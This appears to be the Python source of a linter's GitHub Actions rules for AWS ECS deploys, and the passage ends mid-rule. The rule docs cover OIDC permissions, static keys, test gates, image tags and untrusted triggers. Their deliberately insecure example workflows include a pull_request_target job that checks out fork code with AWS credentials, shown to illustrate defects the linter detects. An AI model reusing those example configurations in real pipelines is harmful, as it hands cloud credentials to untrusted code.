"""GitHub Actions workflows: the job that assumes the role and deploys.

Every rule reads the workflow through `lint/workflow_model.py` (triggers,
effective permissions, matrix rows, steps, role uses, deploys, tests, step
outputs) and the `run:` scripts through `lint/shell.py`. Jobs switched off
with `if: false` are skipped (they never run), except by
`workflow-action-unpinned`.
"""
from __future__ import annotations

import dataclasses
import itertools
import math
import os
import re
from typing import List, Optional

from ecs_lint.lazy import lazy_import, lazy_re
from ecs_lint.model import Problem
from ecs_lint.registry import check, rule

wm = lazy_import("ecs_lint.workflow_model", globals(), "wm")
shell = lazy_import("ecs_lint.shell", globals(), "shell")
bake = lazy_import("ecs_lint.bake", globals(), "bake")
R = lazy_import("ecs_lint.xref.runs", globals(), "R")
P = lazy_import("ecs_lint.xref.subjects_produced", globals(), "P")

ID_TOKEN_MISSING = rule(
    "workflow-id-token-missing", "error",
    "A job assumes an AWS role through OIDC but its permissions lack `id-token: write`.",
    docs="""
    ## What it does
    Finds jobs that assume a role through GitHub's OIDC token
    (`aws-actions/configure-aws-credentials` with `role-to-assume` and no access
    keys, `web-identity-token-file`, `role-chaining` or `force-skip-oidc: true`,
    any `role-to-assume` input of a wrapper action, or
    `aws sts assume-role-with-web-identity` in a script, unless its token is a
    pod's projected one, `$AWS_WEB_IDENTITY_TOKEN_FILE`, or the SDKs' own
    `AWS_ROLE_ARN` and `AWS_WEB_IDENTITY_TOKEN_FILE` variables, or a later
    configure-aws-credentials step's `web-identity-token-file`, with a step
    that fetches GitHub's token itself: `core.getIDToken()` in
    actions/github-script, or a script reading `$ACTIONS_ID_TOKEN_REQUEST_URL`) whose effective
    permissions do not grant `id-token: write` (not on an AWS CodeBuild-hosted
    runner, `runs-on: codebuild-...`, whose service role's credentials the
    action uses instead). The effective permissions are the
    job's `permissions` block, else the workflow's; `write-all` grants it,
    `read-all` and `{}` do not, and without any block GitHub's default token has
    no `id-token` permission at all (permissive or restricted). A step that
    already has access keys in its environment (`AWS_ACCESS_KEY_ID` in an `env`
    block, or keys given to an earlier configure-aws-credentials step of the
    job) is not reported: without a token the action assumes the role with
    those keys (`sts:AssumeRole`), and `workflow-static-aws-keys` reports them;
    unless the step unsets them first (`unset-current-credentials: true`).
    Step `if:`s are read per matrix row, as GitHub evaluates them: a step that
    never runs (`if: false`, `if: ${{ false }}`) needs no token, and keys
    given by a step that runs only in some rows (`if: matrix.auth == 'keys'`)
    do not excuse the role step in the others.
    A step pinned at v4.2.0 or later reads its empty inputs from env variables
    of the same name (`ROLE_TO_ASSUME`, `ROLE_CHAINING`,
    `WEB_IDENTITY_TOKEN_FILE`, `UNSET_CURRENT_CREDENTIALS`...), as the action does.

    A reusable workflow (`on: workflow_call`) without any permissions block
    inherits the caller's, which this file cannot show: it is not reported,
    unless it also runs on a trigger of its own (`push`, ...), where it gets the
    default token. A
    job calling a local reusable workflow (`uses: ./.github/workflows/x.yml`)
    whose jobs assume a role through OIDC (or hand one to another repository's
    reusable workflow, as below; also through the local workflows they call)
    is reported when the calling job does
    not grant `id-token: write` (a called workflow cannot get more than its
    caller); so is a job calling another repository's reusable workflow with an
    input or a secret that hands it a role (`role-to-assume: arn:...:role/x`,
    `aws-role: ${{ vars.DEPLOY_ROLE }}`, `aws-role-arn: ${{ secrets.ROLE_ARN }}`)
    and no secrets that may be AWS keys (`secrets: inherit`, or a secret named
    like a key and not like a role, is given the benefit of the doubt).

    ## Why is this bad?
    Without `id-token: write` the runner gets no token request URL, so
    `configure-aws-credentials` fails ("Could not load credentials") and the
    deploy never starts. Declaring a job block also drops every scope it does
    not list, so adding `permissions: {contents: read}` to a job silently
    removes the workflow's `id-token: write` for it.

    ## Example
    ```yaml
    permissions:
      contents: read
    jobs:
      deploy:
        steps:
          - uses: aws-actions/configure-aws-credentials@v4
            with:
              role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
              aws-region: eu-west-1
    ```

    Use instead:
    ```yaml
    jobs:
      deploy:
        permissions:
          contents: read
          id-token: write
    ```
    """)

ID_TOKEN_TOO_BROAD = rule(
    "workflow-id-token-too-broad", "info",
    "`id-token: write` granted at workflow level where some jobs do not assume a role.",
    docs="""
    ## What it does
    Reports a workflow-level `id-token: write` (or `write-all`) when some job that
    inherits it (no job block of its own) does not assume an AWS role. A job that
    calls a local reusable workflow counts as needing it when that workflow
    assumes a role (or cannot be read; a remote one always counts).

    ## Why is this bad?
    Every job that can mint an OIDC token can ask any cloud that trusts the
    repository for credentials. A test job running third-party code does not
    need that power.

    ## Example
    ```yaml
    permissions:
      id-token: write
    jobs:
      test: {runs-on: ubuntu-latest, steps: [{run: pytest}]}
      deploy: ...
    ```

    Use instead:
    ```yaml
    permissions:
      contents: read
    jobs:
      deploy:
        permissions: {contents: read, id-token: write}
    ```
    """)

STATIC_KEYS = rule(
    "workflow-static-aws-keys", "error",
    "Long-lived AWS access keys are passed to the workflow.",
    docs="""
    ## What it does
    Finds long-lived access keys: the `aws-access-key-id`/`aws-secret-access-key`
    inputs of any action (in any case, with `_` or `-`: a third-party action's
    `AWS_ACCESS_KEY_ID` input too), any other input given a secret named as a key
    (`secrets.AWS_ACCESS_KEY_ID`, `secrets.PROD_AWS_SECRET_ACCESS_KEY`: e.g.
    kciter/aws-ecr-action's `access_key_id`, docker/login-action's `username` and
    `password` for ECR), `AWS_ACCESS_KEY_ID`/`AWS_SECRET_ACCESS_KEY` (or the
    `AWS_ACCESS_KEY`/`AWS_SECRET_KEY` the SDKs also read) in a
    workflow, job, step, job container or service container `env` (or another env name given a
    secret named as a key: `TF_VAR_access_key`), a reusable workflow's
    `secrets:` named as a key (in any case), and `aws configure set
    aws_access_key_id ...`, `aws configure import --csv ...` (the console's
    access key file: an IAM user's key, wherever the text comes from), `export AWS_ACCESS_KEY_ID=...`, `echo
    "AWS_ACCESS_KEY_ID=..." >> $GITHUB_ENV`, `docker run -e AWS_ACCESS_KEY_ID=...`,
    `serverless config credentials --key ...`, a tool's `--access-key-id` /
    `--secret-access-key` (fabfuel's `ecs deploy`; silintl's `ecs-deploy
    --aws-access-key`), the S3 backend's `terraform init
    -backend-config="access_key=..."` (and `secret_key`),
    `aws_access_key_id = ...` lines written to a credentials file (also from
    a `printf` format) or the whole `~/.aws/credentials` written from a
    secret, in scripts, when the value comes
    from `secrets`, `vars` or a literal (a literal shorter than a key, like
    `test` for a local emulator, or a key id that is no IAM user's `AKIA...`,
    like LocalStack's `LSIA...`, does not count; in a script, `$NAME` is read
    through the env blocks, and a literal counts when it has the shape of a key). Values from step outputs (credentials
    minted at run time, e.g. `output-credentials: true`) are not reported. A
    key written in a local composite action is reported in the action's file.

    ## Why is this bad?
    An IAM user key never expires: leaked once (a log, a fork, a compromised
    action), it works until someone notices and rotates it. OIDC gives each run
    credentials that expire within the hour and can be limited to one branch or
    environment.

    ## Example
    ```yaml
    - uses: aws-actions/configure-aws-credentials@v4
      with:
        aws-access-key-id: ${{ secrets.AWS_ACCESS_KEY_ID }}
        aws-secret-access-key: ${{ secrets.AWS_SECRET_ACCESS_KEY }}
        aws-region: us-east-1
    ```

    Use instead:
    ```yaml
    permissions: {id-token: write, contents: read}
    steps:
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
          aws-region: us-east-1
    ```
    """)

DEPLOY_NO_ENVIRONMENT = rule(
    "workflow-deploy-no-environment", "warning",
    "A job that deploys has no `environment`.",
    docs="""
    ## What it does
    Finds jobs that deploy (the `amazon-ecs-deploy-task-definition` action, a
    CodeDeploy action, or `aws ecs update-service | register-task-definition |
    run-task | create-service` / `aws deploy create-deployment` in a script
    (also in a shell script of the repository the step runs:
    `./scripts/deploy.sh`, `bash scripts/deploy.sh`, or a makefile target:
    `make deploy`), or
    a deploy tool, also in such a script or target: `ecs-deploy` (silintl, also as its Docker image or its action `silinternational/ecs-deploy`), `ecs
    deploy` (fabfuel), ecspresso's `deploy`, `rollback`, `refresh`, `scale`,
    `run`, `register` (after its global flags, `ecspresso --config F deploy`;
    also the `kayac/ecspresso` action's `args`; never with `--dry-run`, nor
    `diff`, `render`, `verify`, `status`), `copilot deploy`, `ecs-cli compose
    service up`; or a deploy of a repository template that defines an ECS
    service or task definition: `aws cloudformation deploy`,
    `create-stack`/`update-stack`, `sam deploy`, the
    `aws-cloudformation-github-deploy` action, but not a change set only)
    without an `environment` (a string or `{name, url}`; an empty string is
    none). A job that calls a local reusable workflow whose deploying job's
    `environment: ${{ inputs.X }}` comes out empty for this call (X left at
    a default of '') is reported at the call.

    ## Why is this bad?
    Without an environment there is no required reviewer, no wait timer, no
    branch restriction, no separation of secrets, and the OIDC `sub` is the
    branch form, so the trust policy cannot tell a production deploy from any
    other run on that branch.

    ## Example
    ```yaml
    jobs:
      deploy:
        runs-on: ubuntu-latest
        steps: [...]
    ```

    Use instead:
    ```yaml
    jobs:
      deploy:
        runs-on: ubuntu-latest
        environment: production
    ```
    """)

DEPLOY_NO_TEST_GATE = rule(
    "workflow-deploy-no-test-gate", "warning",
    "A deploying job does not depend, directly or through `needs`, on a job that runs tests.",
    docs="""
    ## What it does
    Follows `needs` transitively from every deploying job and looks for a job
    that runs tests: pytest, `python -m unittest`, tox/nox, `npm|yarn|pnpm|bun
    test` (and `run test*`), `go test`, `make test|check`, `cargo test` (not
    `--no-run`, which only compiles them),
    `mvn test|package|verify|install|deploy` (Maven runs every phase up to the
    one named) unless `-DskipTests`/`-Dmaven.test.skip=true`, `gradle
    test|check|build` unless `-x test`, rspec, jest, vitest, bats, `dotnet test`,
    `manage.py test`, `rails test`, `php artisan test`, `composer test`, phpunit,
    pest, and the like (also called by a path: `./vendor/bin/phpunit`), also inside `docker run`/`docker compose run`,
    a Dockerfile's test stage built (`docker build --target test`, docker/build-push-action's
    `target: test`: its `RUN` of the tests fails the build),
    test scripts (`./scripts/run-tests.sh`), actions whose path names tests, and
    jobs whose id or name says `test` (not a runner told to list the tests:
    `pytest --collect-only`, `jest --listTests`, `go test -list`); a job
    counts if one row of its matrix runs tests (`pnpm run ${{ matrix.script
    }}` with a `test` row). Test steps that run in the deploying job
    itself before the deploy also count when, together, they run on every
    event the deploy runs on (tests only on `push` leave a dispatch untested). A test step with `continue-on-error:
    true` does not (its failure does not fail the job), nor one whose script
    swallows the failure: `pytest || true` (also `|| :`, `|| exit 0`,
    `|| echo ...`), a test command piped into another without pipefail
    (`pytest | tee out.txt` in the default shell), a failure only followed by
    printing logs (`|| cat out.log`, `|| docker compose logs db`), or, with
    `-e` off (`set +e`), a test command that is not the script's last when
    nothing after it acts on `$?` (`exit`, a test; printing it, or a
    variable holding it, is not enough) (so in pwsh, powershell and cmd, a Windows runner's default included,
    which do not stop at a failing program, unless the script reads
    `$LASTEXITCODE`). Neither does a job named
    `test` whose only test steps are such, nor a job with `continue-on-error:
    true` (the jobs that need it see `success` when it failed). A job whose `if:` runs it whatever the
    jobs it needs gave (`always()`, `failure()`, `!cancelled()`, without a test
    of `needs.*.result` other than `contains(needs.*.result, 'success')`, which
    one passing job satisfies, or `needs.X.result == 'success'` for an X that runs
    tests or needs one that does, or `== 'failure'` / `!= 'skipped'` for an X
    that needs one and whose own `if:` has no always(), failure() or
    cancelled(): X ran, so what it needs passed; `!= 'failure'` lets a
    cancelled run through; a test required in one
    alternative only, as in `result == 'success' || (inputs.skip && result ==
    'skipped')`, is not required) is not gated by them, unless each deploying
    step's own `if:` requires such a result; `!failure() && !cancelled()`
    gates when a needed test job cannot be skipped (no `if:`, or one the
    call's inputs make true). A
    called local reusable workflow's test jobs count only on the caller's
    events (their `if:` on `github.event_name` sees the caller's event).

    It stays silent where the gate may live elsewhere: a job in the chain that
    calls a reusable workflow it cannot read, a reusable workflow
    (`workflow_call`) or a workflow started by `workflow_run` whose job (or a
    job it needs) runs only when that workflow succeeded (`if:
    github.event.workflow_run.conclusion == 'success'`, or a step before the
    deploys that fails the job otherwise: `if: ...conclusion != 'success'`
    and a script ending in `exit 1`; GitHub starts it
    whatever the other workflow concluded, and `!= 'failure'` lets a
    cancelled or timed-out run through), as long as the job runs on no
    other trigger (a reusable workflow that can also be dispatched by hand
    deploys untested on the dispatch), and unless every workflow it runs
    after is in the repository (found by its `name:`, as GitHub matches
    them) and none of them runs tests. The gate of a
    reusable workflow is then its callers': a job that calls a local one
    (`uses: ./.github/workflows/deploy.yml`) whose deploying job has no tests
    of its own before it is reported, in the caller, when no job it `needs`
    runs tests.

    ## Why is this bad?
    A push that breaks the tests still reaches production; the test job runs
    beside the deploy instead of before it.

    ## Example
    ```yaml
    jobs:
      test: {steps: [{run: pytest}]}
      deploy: {environment: production, steps: [...]}
    ```

    Use instead:
    ```yaml
    jobs:
      test: {steps: [{run: pytest}]}
      deploy: {needs: test, environment: production, steps: [...]}
    ```
    """)

IMAGE_LATEST = rule(
    "workflow-image-latest", "warning",
    "The image that gets deployed is tagged `:latest` or untagged instead of a commit SHA or digest.",
    docs="""
    ## What it does
    Finds the image a deploying job deploys and follows it to where its tag is
    written: the `image` input of `amazon-ecs-render-task-definition`, the
    image a deploy tool is given (`ecs-deploy -i IMAGE`, whose tag `-to TAG`
    or `-e VAR` replace, `ecs deploy ... --image CONTAINER IMAGE` or
    `--tag TAG`), `jq --arg`
    values that set an image before `aws ecs register-task-definition`, the
    images of a task definition file of the repository that the job registers
    as it is: the `task-definition` of `amazon-ecs-deploy-task-definition` (a
    file, not a render step's output), or `aws ecs register-task-definition
    --cli-input-json file://FILE` (`--cli-input-yaml`, or
    `--container-definitions file://FILE` for a list of containers), FILE
    relative to the step's `working-directory` and the script's `cd`, when no
    step before it may change the file (a `>` redirect or `tee` into it,
    `sed -i`/`perl -i`/`yq -i`, a `cp`/`mv` onto it or into its folder, a
    write to a path held in a variable, an action whose inputs name it or
    its folder; a render step writes a new file),
    or, when the job deploys through the CLI without either (e.g. `update-service
    --force-new-deployment`), the images it pushes (a job that only restarts
    the service with `--force-new-deployment`, registering no task definition,
    deploys the moving tag it pushes: its `:latest` is reported even beside a
    commit tag, which no revision names). The finding goes where the
    tag is written: an input's `latest` default (a workflow's, or a local
    composite action's that the caller leaves out), the push when the job pushes
    no other tag of the repository, else the deploy (for a file, the step or
    command that registers it; the finding names the file). Values are followed through
    `env`, `${{ steps.ID.outputs.N }}` written to `$GITHUB_OUTPUT` (or
    `::set-output`), job outputs across `needs`, shell variables and
    `$GITHUB_ENV` (`>>` or `| tee -a`), matrix rows, and the `tags`/`version`
    outputs (and `fromJSON(...outputs.json).tags[N]`, listed image by image) of `docker/metadata-action`
    when its `tags` entries are `type=raw` values and `type=sha`, and entries
    whose tag depends on the run, read once per kind of ref the job runs on
    (a push to a branch, of a tag, a pull request): `type=semver`, `pep440`
    and `match` give a tag only on a tag ref, `type=ref` on the ref its
    `event=` names, `edge` on the default branch, `schedule` on a schedule
    run (`version` is
    the entry of highest priority: schedule, semver, match, edge, ref, then
    raw before sha; `flavor: latest=true` adds a
    `latest` at the end of the tags, not the version; `enable={{is_default_branch}}`
    counts as on in a workflow, or a job (its `if:` and `needs` narrow the
    events; `github.ref == 'refs/heads/main'` the branch), that runs only on
    pushes to the default branch, `github.default-branch` or else
    `main`/`master`, and where a job needing the metadata step's job does).
    Tags and pushes come from `docker build/tag/push`,
    `docker buildx build --push`, `docker manifest push`, `docker buildx
    imagetools create -t`, `aws ecr put-image --image-tag`, `crane tag`,
    `docker/build-push-action`, and `docker buildx bake --push` or
    docker/bake-action with `push: true` (the `tags` of the targets it builds,
    read from its bake files: HCL, JSON or Compose, `--set` overrides, a
    variable's default unless the step's env sets it) (for a CLI deploy,
    the deploying job's own pushes when it has some: the tag it moves). A tag picked by
    the event (`${{ github.event_name == 'release' && github.event.release.tag_name
    || 'latest' }}`, or `github.event.release.tag_name || 'latest'`: a field
    of another event's payload is empty; `inputs.tag || github.sha`: a
    dispatch's input, its default when the run leaves it, empty on other
    events) is read once per event the job runs
    on, and the finding names the events that deploy `:latest`. In a reusable workflow (`on:
    workflow_call` alone) an image tag from `inputs` is read once per job of the
    repository's workflows that calls it, with the inputs it passes: a default of
    `latest` is reported only when a caller leaves it (the finding names the
    callers); with no local caller, the default is what is known. An image a
    reusable workflow hands its callers (`on.workflow_call.outputs` whose
    `value` is `${{ jobs.J.outputs.N }}`) and that a calling job of the
    repository deploys (`${{ needs.CALL.outputs.NAME }}`) is followed into the
    reusable workflow and reported there, where its tag is written (the
    finding names the deploying job).

    It reports `:latest` and images with no tag. A tag built from the commit
    (`${{ github.sha }}`, `$GITHUB_SHA`, `${GITHUB_SHA::7}`, a variable named
    like a SHA) or a digest (`@sha256:`) is pinned; pushing an extra `:latest`
    beside the deployed SHA tag is fine. Other mutable tags (`v1`, a branch name)
    and values it cannot follow (among them a reference printed by a command,
    e.g. `$(docker inspect --format '{{index .RepoDigests 0}}' ...)`) are not
    reported.

    ## Why is this bad?
    `:latest` says nothing about which commit runs, ECS may pull a different
    image when it replaces a task, and a rollback to the previous task
    definition brings back the same `:latest`.

    ## Example
    ```yaml
    run: |
      docker build -t $REGISTRY/app:latest .
      docker push $REGISTRY/app:latest
      echo "image=$REGISTRY/app:latest" >> $GITHUB_OUTPUT
    ```

    Use instead:
    ```yaml
    env:
      TAG: ${{ github.sha }}
    run: |
      docker build -t $REGISTRY/app:$TAG .
      docker push $REGISTRY/app:$TAG
      echo "image=$REGISTRY/app:$TAG" >> $GITHUB_OUTPUT
    ```
    """)

STABILITY_WAIT_OFF = rule(
    "workflow-stability-wait-off", "warning",
    "`amazon-ecs-deploy-task-definition` updates a service without `wait-for-service-stability: true`.",
    docs="""
    ## What it does
    Checks every `aws-actions/amazon-ecs-deploy-task-definition` step that
    updates a service (`service:` is set) for `wait-for-service-stability: true`.
    The action waits only when the value is the text `true` (any case): `yes`,
    `1` or `on` do not wait. An expression value is not judged, but one: in a
    local reusable workflow, `${{ inputs.X }}` is judged with the value each
    calling job gives (the finding on its `with: X`) or the input's default (on
    its `uses:`). The finding is on the input when it is written
    (`wait-for-service-stability: false`), else on the step's `uses:`; in a
    local composite action, in the action's file when the action writes the
    value itself, else on the caller's input (or `uses:`). The same holds for
    `workflow-stability-wait-short`.

    ## Why is this bad?
    Without the wait the step succeeds as soon as the service is updated: a
    deployment that never becomes healthy, or that the circuit breaker rolls
    back, still shows a green workflow.

    ## Example
    ```yaml
    - uses: aws-actions/amazon-ecs-deploy-task-definition@v2
      with:
        task-definition: ${{ steps.render.outputs.task-definition }}
        service: api
        cluster: prod
    ```

    Use instead:
    ```yaml
        wait-for-service-stability: true
        wait-for-minutes: 15
    ```
    """)

STABILITY_WAIT_SHORT = rule(
    "workflow-stability-wait-short", "warning",
    "`wait-for-minutes` is below 15 minutes.",
    options={"min-minutes": 15},
    docs="""
    ## What it does
    Reports `wait-for-minutes` below `min-minutes` (default 15) on an
    `amazon-ecs-deploy-task-definition` step that waits for stability. The
    action reads it as `parseInt(value) || 30`: without it, with `0` or with
    text that is not a number it waits 30 minutes, which is fine. The value
    is read as GitHub reads YAML 1.2: an unquoted `1:00` is the text `1:00`
    (1 minute), not YAML 1.1's 60. In a local
    reusable workflow, `${{ inputs.X }}` is judged with each calling job's
    value (on its `with: X`; in each row of the caller's matrix, for
    `X: ${{ matrix.K }}`) or the input's default (on its `uses:`);
    `${{ matrix.K }}` with each row's value, as is an `A && B || C` whose
    operands the row tells (`matrix.env == 'production' && 30 || 10`) (the
    shortest is reported).

    ## Why is this bad?
    A rolling deploy of a slow-booting service, with a health-check grace
    period, easily takes more than five minutes: the step times out and fails a
    deploy that was going to succeed (the article's pitfall 7).

    ## Example
    ```yaml
    wait-for-service-stability: true
    wait-for-minutes: 5
    ```

    Use instead:
    ```yaml
    wait-for-service-stability: true
    wait-for-minutes: 15
    ```
    """)

MIGRATION_UNCHECKED = rule(
    "workflow-migration-unchecked", "error",
    "`aws ecs run-task` is started but the job does not wait for it and fail on a non-zero exit code.",
    docs="""
    ## What it does
    For each `aws ecs run-task` in a `run:` script (or in a repository script
    or makefile target the step runs: `./scripts/migrate.sh`, `make migrate`,
    reported at the step), reads the rest of the script
    and the later steps of the job up to the next step that deploys (a check
    after the deploy no longer stops it; a shell function's body is read where
    the function is called) and asks two questions:

    - **Does it wait?** `aws ecs wait tasks-stopped`, or `aws ecs describe-tasks`
      polled inside a `while`/`until`/`for` loop.
    - **Does it check the exit code?** An `aws ecs describe-tasks` whose query,
      or a command reading its output (a pipe, a `$(...)` capture, a variable
      holding it, values `read` takes from a here-string of it, e.g. `jq
      '.tasks[0].containers[0].exitCode'`), mentions `exitCode`, followed by
      a way to fail: `exit` with a non-zero number after a test of that value
      that rejects every non-zero code (`!= 0`, `-ne 0`, `-gt 0`; not `-eq 1`,
      which lets 137 through) (or `exit "$EXIT"`), `false`, a bare
      `[ ... ]`/`[[ ... ]]`/`test` on that value (GitHub's `bash` and `sh` run
      with `-e`; a shell written out, `shell: bash {0}`, only with `-e` or
      `set -e`, or as the script's last command, whose status is the step's),
      `jq -e` (ending its pipeline, or piped on, e.g. into `tee`,
      only under pipefail: `shell: bash` or `set -o pipefail`; the unspecified
      shell is `bash -e {0}`, whose pipelines return their last command's
      status), or (with `-e`) a pipe into `grep -qx 0` ending the
      pipeline; and not in a step with `continue-on-error: true` (unless a
      later step before the deploy runs on `steps.ID.outcome == 'failure'`
      and ends in `exit 1`), nor in a local composite action called by such
      a step (the job would go on), nor in a step whose `if:` is false:
      `if: false`, or in a reusable workflow an `if:` on its inputs that the
      repository's callers make false (`if: inputs.wait-for-exit` left at its
      default `false`; when only some callers do, they are named).

    The article's pattern (run-task, `wait tasks-stopped`, `describe-tasks
    --query 'tasks[0].containers[0].exitCode'`, `if [ "$EXIT" != "0" ]; then
    exit 1; fi`) passes, and so do `[ "$EXIT" = 0 ] || exit 1`, `case "$EXIT"
    in 0) ;; *) exit 1 ;; esac`, `jq -e`, and a loop over the containers' exit
    codes. `run-task: true` on the deploy action
    passes with `wait-for-task-stopped: true` (the action then fails on a
    non-zero exit code), unless the step has `continue-on-error: true` and no
    later step reads its `steps.ID.outcome`. Checks written in another language (a Python script)
    are not recognised.

    ## Why is this bad?
    `run-task` returns as soon as the task is scheduled. If nothing waits and
    reads the container's exit code, a failed migration is followed by a deploy
    of code that expects the new schema (the article's pitfall 2).

    ## Example
    ```yaml
    run: |
      TASK=$(aws ecs run-task --cluster prod --task-definition migrate \\
        --query 'tasks[0].taskArn' --output text)
      aws ecs wait tasks-stopped --cluster prod --tasks "$TASK"
    ```

    Use instead:
    ```yaml
    run: |
      TASK=$(aws ecs run-task --cluster prod --task-definition migrate \\
        --query 'tasks[0].taskArn' --output text)
      aws ecs wait tasks-stopped --cluster prod --tasks "$TASK"
      EXIT=$(aws ecs describe-tasks --cluster prod --tasks "$TASK" \\
        --query 'tasks[0].containers[0].exitCode' --output text)
      if [ "$EXIT" != "0" ]; then exit 1; fi
    ```
    """)

UNTRUSTED_TRIGGER = rule(
    "workflow-oidc-untrusted-trigger", "error",
    "A job with `id-token: write` that assumes a role runs on `pull_request_target` or `workflow_run`.",
    docs="""
    ## What it does
    Finds jobs that assume a role through OIDC with `id-token: write` (also
    with a `web-identity-token-file`, which such a job fills with its own OIDC
    token) in a workflow triggered by `pull_request_target` or `workflow_run`
    (after narrowing by the job's and the step's `if:` tests of `github.event_name`),
    and jobs that call a local reusable workflow whose jobs do (a called
    workflow runs on its caller's event), or that hand another repository's
    reusable workflow a role (an input or secret named like a role, as
    `workflow-id-token-missing` reads it) with `id-token: write` and no keys.

    ## Why is this bad?
    Both events run in the base repository's trusted context for changes
    anyone can propose: a fork's pull request (or a fork's CI run, whose branch
    may be called `main`). Checking out or building that code with cloud
    credentials in the job hands them to the author of the pull request.

    ## Example
    ```yaml
    on: pull_request_target
    jobs:
      preview:
        permissions: {id-token: write}
        steps:
          - uses: actions/checkout@v4
            with: {ref: "${{ github.event.pull_request.head.sha }}"}
          - uses: aws-actions/configure-aws-credentials@v4
    ```

    Use instead:
    ```yaml
    on: pull_request   # no secrets and no id-token for forks
    ```
    """)

OIDC_ON_PULL_REQUEST = rule(
    "workflow-oidc-on-pull-request", "warning",
    "A job that assumes a deploy role runs on `pull_request`.",
    docs="""
    ## What it does
    Finds jobs that assume a role through OIDC (a `web-identity-token-file`
    counts in a job with `id-token: write`) in a workflow triggered by
    `pull_request` (or `pull_request_review`/`pull_request_review_comment`, which
    run the same pull request's merge commit; after narrowing by the job's and
    the step's `if:` tests of
    `github.event_name`; by tests that `github.ref`/`github.ref_name` is a branch
    or tag, which a pull request's `refs/pull/N/merge` fails unless `closed` is
    among its types, or that it starts with `refs/pull/` (`!startsWith(...)`
    keeps the job off pull requests); and by the jobs it `needs`: a job whose needed job is
    skipped is skipped too, unless its `if:` calls `always()`, `failure()` or
    `cancelled()`), directly or in a local reusable workflow they call, or
    through another repository's reusable workflow they hand a role (an
    input or secret named like a role) with `id-token: write` and no keys.
    Roles whose ARN or name says they are read-only
    (`readonly`, `read-only`, `-ro`, `plan`), as written or as the config's
    `vars`/`secrets` resolve `${{ vars.X }}`, are not reported, unless the job
    then chains from one into another role (`role-chaining: true`).

    ## Why is this bad?
    Any branch pushed to the repository can open a pull request whose workflow
    changes are used as written: the role is then available to unreviewed code.
    Deploy roles belong to `push` on protected branches or to environments with
    reviewers.

    ## Example
    ```yaml
    on: pull_request
    jobs:
      deploy:
        steps:
          - uses: aws-actions/configure-aws-credentials@v4
            with: {role-to-assume: "${{ vars.DEPLOY_ROLE_ARN }}", aws-region: us-east-1}
    ```

    Use instead:
    ```yaml
    on:
      push:
        branches: [main]
    ```
    """)

REGION_MISSING = rule(
    "workflow-aws-region-missing", "error",
    "`configure-aws-credentials` without its required `aws-region` input.",
    docs="""
    ## What it does
    Reports `aws-actions/configure-aws-credentials` steps without a non-empty
    `aws-region` input. An `AWS_REGION` or `AWS_DEFAULT_REGION` environment
    variable does not count, except that a step pinned at v4.2.0 or later
    (`@v4.2.1`, `@v5`, `@v6`, or a commit SHA with such a `# v5.0.0` comment;
    not `translate-env-variables: false`) reads an empty input from
    `AWS_REGION` in its env (or exported by an earlier configure-aws-credentials
    step). A major tag alone, `@v4`, is read as the catalog reads it. An input that is only `${{ env.X }}` where the
    `env:` entry X has no value (`X:` alone, or `X: ##region##`, which YAML
    reads as a comment) is empty too, unless an earlier step sets X through
    `$GITHUB_ENV` (or writes there what a command prints, `jq ... >>
    "$GITHUB_ENV"`, which may set any name); so is `${{ env.X }}` with X in no `env:` of the step, job
    or workflow (unless an earlier action, other than the usual checkout,
    setup, cache, artifact, login and ECS ones, may export it, or
    configure-aws-credentials exported the region), `${{ matrix.K }}` when a
    row of the matrix lacks K, `${{ inputs.X }}` on a push of a workflow that
    is also dispatched, a reusable workflow's input with no default that a
    calling job of the repository does not pass, `${{ secrets.X }}` in a
    reusable workflow that no calling job of the repository hands X (no
    `secrets: inherit`, no `secrets:` entry for it), and
    `${{ needs.J.outputs.N }}` where job J does not declare N under its
    `outputs:` (a step's output reaches other jobs only through them).

    ## Why is this bad?
    `aws-region` is a required input: the step fails before any call to AWS.

    ## Example
    ```yaml
    env: {AWS_REGION: us-east-1}
    steps:
      - uses: aws-actions/configure-aws-credentials@v4
        with: {role-to-assume: "${{ vars.DEPLOY_ROLE_ARN }}"}
    ```

    Use instead:
    ```yaml
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
          aws-region: ${{ env.AWS_REGION }}
    ```
    """)

ACCOUNT_ID_HARDCODED = rule(
    "workflow-account-id-hardcoded", "info",
    "A role ARN with a literal account id instead of a `vars` reference.",
    docs="""
    ## What it does
    Reports a `role-to-assume` (or the `--role-arn` of `aws sts
    assume-role-with-web-identity`) whose ARN, after following `env` and matrix
    values, holds a literal 12-digit account id.

    ## Why is this bad?
    Account ids and role names in the workflow tie the file to one account:
    staging and production copies drift, and moving the role means editing
    every workflow. `vars` keep them in one place per environment.

    ## Example
    ```yaml
    role-to-assume: arn:aws:iam::123456789012:role/deploy
    ```

    Use instead:
    ```yaml
    role-to-assume: ${{ vars.DEPLOY_ROLE_ARN }}
    ```
    """)

APP_SECRET_IN_GITHUB = rule(
    "workflow-app-secret-in-github", "info",
    "Application secrets come from GitHub secrets into the deploy instead of AWS Secrets Manager.",
    docs="""
    ## What it does
    In jobs that deploy or assume a role, finds `secrets.NAME` references whose
    name looks like an application secret (password, database URL, API key,
    secret key, JWT, client secret, private key, SMTP, third-party service keys)
    in `env`, action inputs and `run:` scripts. Secrets the CI itself needs
    (AWS, GitHub, Slack, Sentry auth, Docker, registry, role or account
    identifiers) are not reported, nor are publishable keys (`*_PUBLISHABLE_KEY`:
    Stripe's and Clerk's `pk_...` keys are public by design, shipped to browsers).

    ## Why is this bad?
    A secret baked into an image or a task definition `environment` is visible
    to anyone who can read the image or describe the task definition, and
    rotating it means a new deploy. ECS injects `secrets` from Secrets Manager or
    SSM at task start instead.

    ## Example
    ```yaml
    env:
      DATABASE_PASSWORD: ${{ secrets.DATABASE_PASSWORD }}
    run: docker build --build-arg DATABASE_PASSWORD .
    ```

    Use instead:
    ```json
    "secrets": [{"name": "DATABASE_PASSWORD",
                 "valueFrom": "arn:aws:secretsmanager:...:secret:db-password"}]
    ```
    """)

TEMPLATE_INJECTION = rule(
    "workflow-template-injection", "error",
    "A job that assumes an AWS role expands attacker-controllable context inside a `run:` script.",
    docs="""
    ## What it does
    In jobs that assume an AWS role, finds `${{ ... }}` expressions in `run:`
    scripts (and in the `script:` of `actions/github-script`, JavaScript that
    GitHub fills in the same way) that read text an outsider controls: pull request, issue,
    discussion, comment and review titles and bodies (and an `edited` event's
    previous ones, `github.event.changes.title.from`), `github.head_ref` and the
